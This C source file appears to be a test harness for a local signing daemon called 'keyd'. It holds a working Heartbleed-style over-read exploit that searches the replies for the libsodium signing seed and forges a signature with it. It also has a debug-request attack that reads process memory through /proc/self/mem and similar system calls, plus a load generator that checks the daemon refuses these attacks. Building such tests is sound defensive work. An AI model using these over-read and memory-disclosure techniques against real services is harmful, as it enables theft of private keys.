/* SPDX-License-Identifier: MIT */
/*
 * The attack client for keyd (and its load generator).
 *
 *	attack [--dump FILE] PORT
 *		Heartbleed: ask for ever larger echoes and search what comes
 *		back for the signing key.  The public key (asked for first)
 *		gives it away: libsodium keeps a secret key as seed || public
 *		key, so 32 bytes before a copy of the public key are a seed
 *		candidate, proven by deriving the key pair from it and
 *		forging a signature.  Exit 0: key recovered; 1: not.
 *		--dump FILE writes every byte received, for the test.
 *
 *	attack --syscalls ADDR [--dump FILE] PORT
 *		The 'D' request (proto.h), each way in turn, aimed at ADDR
 *		(where keyd says its keys are): process_vm_readv, pread of
 *		/proc/self/mem, pkey_mprotect to key 0, mprotect.  Each reply is
 *		searched for the key as above.  Exit 0: key recovered by one.
 *
 *	attack --load REQUESTS --threads T --key-file FILE [--attack-every K]
 *	       [--addr ADDR] PORT
 *		T threads, each with one connection, send REQUESTS in all:
 *		signatures (checked against the public key) and secretbox
 *		encryptions (opened with the box key, which this trusted
 *		client derives from FILE); every K-th request (default 25)
 *		is an over-read on a connection of its own (with --addr,
 *		every other one a 'D' request at ADDR instead, its way
 *		turning).  Exit 0 when every good reply is correct, none is
 *		lost and no attack got an answer.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "proto.h"

static int port;
static uintptr_t target; /* --addr / --syscalls: where the keys are */
static unsigned char pubkey[32];
static unsigned char box_key[32];

static int dial(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof(a))) {
		close(fd);
		fd = -1;
	}
	return fd;
}

/* Append a request to buf at *at (room for 3 + KEYD_MAX_PAYLOAD). */
static void put_request(unsigned char *buf, size_t *at, int op, const void *payload,
			unsigned len)
{
	buf[*at] = (unsigned char)op;
	keyd_put16(buf + *at + 1, len);
	if (len)
		memcpy(buf + *at + 3, payload, len);
	*at += 3 + len;
}

/* Read one reply (data into out, at most cap bytes): its length, or -1
 * when the connection broke (cut by the daemon). */
static long get_reply(int fd, unsigned char *out, size_t cap)
{
	unsigned char hdr[5];

	if (keyd_io(fd, hdr, 5, 0) || hdr[0])
		return -1;
	uint32_t n = keyd_get32(hdr + 1);
	if (n > cap || keyd_io(fd, out, n, 0))
		return -1;
	return n;
}

/* One request and its reply. */
static long call(int fd, int op, const void *payload, unsigned len, unsigned char *out,
		 size_t cap)
{
	unsigned char req[3 + KEYD_MAX_PAYLOAD];
	size_t at = 0;

	if (len > KEYD_MAX_PAYLOAD)
		return -1;
	/* One write: a request in two would wait for a delayed ACK. */
	put_request(req, &at, op, payload, len);
	if (keyd_io(fd, req, at, 1))
		return -1;
	return get_reply(fd, out, cap);
}

static int get_pubkey(void)
{
	unsigned char buf[64];
	int fd = dial();
	long n = fd < 0 ? -1 : call(fd, 'P', NULL, 0, buf, sizeof(buf));

	if (fd >= 0)
		close(fd);
	if (n != 32) {
		fprintf(stderr, "attack: cannot get the public key from port %d\n", port);
		return -1;
	}
	memcpy(pubkey, buf, 32);
	return 0;
}

/* The over-read: say N bytes follow, send 2.  Returns the reply length
 * (-1: cut); the reply lands in out. */
static long overread(unsigned n, unsigned char *out, size_t cap)
{
	unsigned char req[4] = { 0, 0, 'h', 'i' };
	int fd = dial();

	if (fd < 0)
		return -2;
	keyd_put16(req, n);
	long got = call(fd, 'E', req, sizeof(req), out, cap);
	close(fd);
	return got;
}

/* A 'D' request (how: one of KEYD_DEBUG_HOWS) for n bytes at a, on a
 * connection of its own: the reply length, -1 cut, -2 no daemon, or -3
 * with *err the daemon's errno (the call failed). */
static long peek(int how, uintptr_t a, unsigned n, unsigned char *out, size_t cap, int *err)
{
	unsigned char req[3 + 11], hdr[5];
	size_t at = 0;
	int fd = dial();
	long got = -1;

	if (fd < 0)
		return -2;
	req[3] = (unsigned char)how;
	keyd_put32(req + 4, (uint32_t)((uint64_t)a >> 32));
	keyd_put32(req + 8, (uint32_t)a);
	keyd_put16(req + 12, n);
	put_request(req, &at, 'D', req + 3, 11);
	if (!keyd_io(fd, req, at, 1) && !keyd_io(fd, hdr, 5, 0)) {
		uint32_t len = keyd_get32(hdr + 1);
		if (len <= cap && !keyd_io(fd, out, len, 0))
			got = len;
		if (got >= 0 && hdr[0]) {
			*err = len == 4 ? (int)keyd_get32(out) : -1;
			got = -3;
		}
	}
	close(fd);
	return got;
}

/* Search a reply for the signing key; on success fill sk. */
static bool find_key(const unsigned char *p, size_t n, unsigned char sk[64])
{
	for (const unsigned char *q = p; (q = memmem(q, n - (size_t)(q - p), pubkey, 32));
	     q++) {
		unsigned char pk[32];
		if (q - p < 32)
			continue;
		crypto_sign_seed_keypair(pk, sk, q - 32);
		if (!memcmp(pk, pubkey, 32))
			return true;
	}
	return false;
}

static int search(const char *dump_file)
{
	static const unsigned sizes[] = { 64, 256, 1024, 4096, 8192, 16384, 24576,
					  32768, 40960, 49152, 57344, 65535 };
	static unsigned char buf[KEYD_MAX_REPLY];
	FILE *dump = dump_file ? fopen(dump_file, "wb") : NULL;
	unsigned char sk[64];
	int answered = 0, cut = 0, tries = 0;
	size_t over = 0;

	if (dump_file && !dump) {
		perror(dump_file);
		return 2;
	}
	for (size_t i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
		long n = overread(sizes[i], buf, sizeof(buf));
		tries++;
		if (n == -2) {
			fprintf(stderr, "attack: the daemon is gone\n");
			return 2;
		}
		if (n < 0) {
			printf("attack: N=%u: connection cut, nothing came back\n", sizes[i]);
			cut++;
			continue;
		}
		answered++;
		over += n > 2 ? (size_t)n - 2 : 0;
		if (dump)
			fwrite(buf, 1, (size_t)n, dump);
		if (find_key(buf, (size_t)n, sk)) {
			unsigned char sig[64];
			static const char msg[] = "signed by the attacker";
			crypto_sign_detached(sig, NULL, (const unsigned char *)msg,
					     sizeof(msg), sk);
			int ok = crypto_sign_verify_detached(sig, (const unsigned char *)msg,
							     sizeof(msg), pubkey) == 0;
			printf("attack: N=%u: %ld bytes back, the SIGNING KEY among them;"
			       " a forged signature %s\n", sizes[i], n,
			       ok ? "verifies under the daemon's public key" : "fails (?)");
			printf("attack: %d requests, key recovered\n", tries);
			if (dump)
				fclose(dump);
			return 0;
		}
		printf("attack: N=%u: %ld bytes back, no key in them\n", sizes[i], n);
	}
	printf("attack: %d requests: %d answered (%zu bytes over-read), %d cut;"
	       " key not recovered\n", tries, answered, over, cut);
	if (dump)
		fclose(dump);
	return 1;
}

static const char *how_name(int how)
{
	return how == 'v' ? "process_vm_readv" : how == 'm' ? "pread /proc/self/mem"
	     : how == 'k' ? "pkey_mprotect(key 0) + copy" : "mprotect + copy";
}

/* Every way of the 'D' request at target, once each. */
static int syscalls(const char *dump_file)
{
	static unsigned char buf[KEYD_DEBUG_MAX];
	FILE *dump = dump_file ? fopen(dump_file, "wb") : NULL;
	unsigned char sk[64];
	int recovered = 0;

	if (dump_file && !dump) {
		perror(dump_file);
		return 2;
	}
	for (const char *h = KEYD_DEBUG_HOWS; *h; h++) {
		int err = 0;
		long n = peek(*h, target, 96, buf, sizeof(buf), &err);
		if (n == -2) {
			fprintf(stderr, "attack: the daemon is gone\n");
			return 2;
		}
		printf("attack: syscall %c (%s): ", *h, how_name(*h));
		if (n == -1) {
			printf("connection cut, nothing came back\n");
		} else if (n == -3) {
			printf("refused: %s\n", err > 0 ? strerror(err) : "?");
		} else {
			if (dump)
				fwrite(buf, 1, (size_t)n, dump);
			bool found = find_key(buf, (size_t)n, sk);
			recovered += found;
			printf("%ld bytes back, %s\n", n, found ? "the SIGNING KEY among them"
								 : "no key in them");
		}
	}
	printf("attack: %d of %d system-call attacks recovered the key\n", recovered,
	       (int)strlen(KEYD_DEBUG_HOWS));
	if (dump)
		fclose(dump);
	return recovered ? 0 : 1;
}

/* ---- load ---- */

struct load {
	int requests, every;
	int good, sigs, boxes, correct, wrong, lost;
	int attacks, cut, refused, answered, key_found;
	size_t over;
};

/* A good request, sent in batches of BATCH: one write, then the replies
 * (fewer round trips; the daemon answers in order). */
#define BATCH 16

struct pending {
	int op;
	unsigned len;
	unsigned char msg[216];
};

static void make_request(struct pending *p, int i)
{
	p->len = 16 + (unsigned)i % 200;
	p->op = i % 50 == 0 ? 'S' : 'X'; /* signing costs most */
	randombytes_buf(p->msg, p->len);
}

static bool reply_ok(const struct pending *p, const unsigned char *buf, long n,
		     struct load *l)
{
	unsigned char plain[256];
	size_t nb = crypto_secretbox_NONCEBYTES;

	if (p->op == 'S') {
		l->sigs++;
		return n == 64 && crypto_sign_verify_detached(buf, p->msg, p->len, pubkey) == 0;
	}
	l->boxes++;
	return (size_t)n == nb + crypto_secretbox_MACBYTES + p->len &&
	       crypto_secretbox_open_easy(plain, buf + nb, (size_t)n - nb, buf, box_key) == 0 &&
	       !memcmp(plain, p->msg, p->len);
}

/* Send the batch and check its replies; a reply that does not come is
 * lost (and the connection is made again). */
static void flush(int *fd, struct pending *p, int np, unsigned char *buf, struct load *l)
{
	static __thread unsigned char req[BATCH * (3 + sizeof(p->msg))];
	size_t at = 0;
	int k = 0;

	for (int j = 0; j < np; j++)
		put_request(req, &at, p[j].op, p[j].msg, p[j].len);
	if (*fd >= 0 && !keyd_io(*fd, req, at, 1))
		for (; k < np; k++) {
			long n = get_reply(*fd, buf, KEYD_MAX_REPLY);
			if (n < 0)
				break;
			reply_ok(&p[k], buf, n, l) ? l->correct++ : l->wrong++;
		}
	if (k < np) {
		l->lost += np - k;
		if (*fd >= 0)
			close(*fd);
		*fd = dial(); /* go on with a new connection */
	}
}

static void *load_thread(void *arg)
{
	struct load *total = arg, l = { 0 };
	unsigned char *buf = malloc(KEYD_MAX_REPLY), sk[64];
	struct pending pend[BATCH];
	int fd = dial(), np = 0;

	for (int i = 0; buf && i < total->requests; i++) {
		if (i % total->every == total->every - 1) {
			int err;
			long n = target && l.attacks % 2
				 ? peek(KEYD_DEBUG_HOWS[l.attacks / 2 % 4], target, 96, buf,
					KEYD_MAX_REPLY, &err)
				 : overread(65535, buf, KEYD_MAX_REPLY);
			l.attacks++;
			if (n == -3) {
				l.refused++;
			} else if (n < 0) {
				l.cut++;
			} else {
				l.answered++;
				l.over += (size_t)n;
				l.key_found += find_key(buf, (size_t)n, sk);
			}
			continue;
		}
		l.good++;
		make_request(&pend[np++], i);
		if (np == BATCH) {
			flush(&fd, pend, np, buf, &l);
			np = 0;
		}
	}
	if (np)
		flush(&fd, pend, np, buf, &l);
	if (fd >= 0)
		close(fd);
	free(buf);
	l.requests = total->requests, l.every = total->every;
	*total = l; /* this thread's counts, summed by load() */
	return NULL;
}

static int load(int requests, int threads, int every, const char *key_file)
{
	unsigned char seed[32];
	struct keyd_keys k;
	pthread_t tid[64];
	struct load per[64], total = { 0 };
	FILE *f = fopen(key_file, "rb");

	if (!f || fread(seed, 1, 32, f) != 32) {
		fprintf(stderr, "attack: %s: cannot read a 32-byte seed\n", key_file);
		return 2;
	}
	fclose(f);
	keyd_derive(seed, &k);
	memcpy(box_key, k.box_key, 32);
	sodium_memzero(&k, sizeof(k)); /* this client signs nothing */
	if (threads < 1 || threads > 64 || every < 1 || requests < threads)
		return 2;
	for (int t = 0; t < threads; t++) {
		per[t] = (struct load){ .every = every,
					.requests = requests / threads + (t < requests % threads) };
		pthread_create(&tid[t], NULL, load_thread, &per[t]);
	}
	for (int t = 0; t < threads; t++) {
		pthread_join(tid[t], NULL);
		struct load *l = &per[t];
		total.good += l->good, total.sigs += l->sigs, total.boxes += l->boxes;
		total.correct += l->correct, total.wrong += l->wrong, total.lost += l->lost;
		total.attacks += l->attacks, total.cut += l->cut, total.answered += l->answered;
		total.refused += l->refused;
		total.key_found += l->key_found, total.over += l->over;
	}
	printf("load: %d requests from %d threads: %d good (%d signatures, %d encryptions):"
	       " %d correct, %d wrong, %d lost\n", requests, threads, total.good, total.sigs,
	       total.boxes, total.correct, total.wrong, total.lost);
	printf("load: %d attack requests: %d cut, %d refused, %d answered (%zu bytes),"
	       " key found %d times\n", total.attacks, total.cut, total.refused, total.answered,
	       total.over, total.key_found);
	return total.wrong || total.lost || total.answered || total.correct != total.good;
}

int main(int argc, char **argv)
{
	const char *dump = NULL, *key_file = NULL;
	bool sys = false;
	int requests = 0, threads = 8, every = 25;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int i = 1; i < argc - 1; i++) {
		if (!strcmp(argv[i], "--dump"))
			dump = argv[++i];
		else if (!strcmp(argv[i], "--load"))
			requests = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--threads"))
			threads = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--attack-every"))
			every = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--key-file"))
			key_file = argv[++i];
		else if (!strcmp(argv[i], "--addr") || !strcmp(argv[i], "--syscalls")) {
			sys |= !strcmp(argv[i], "--syscalls");
			target = (uintptr_t)strtoull(argv[++i], NULL, 16);
		}
		else
			goto usage;
	}
	if (argc < 2 || (port = atoi(argv[argc - 1])) <= 0 || (requests && !key_file))
		goto usage;
	if (sodium_init() < 0 || get_pubkey())
		return 2;
	if (requests)
		return load(requests, threads, every, key_file);
	return sys ? syscalls(dump) : search(dump);
usage:
	fprintf(stderr, "usage: attack [--dump FILE] PORT\n"
			"       attack --syscalls ADDR [--dump FILE] PORT\n"
			"       attack --load REQUESTS [--threads T] --key-file FILE"
			" [--attack-every K] [--addr ADDR] PORT\n");
	return 2;
}
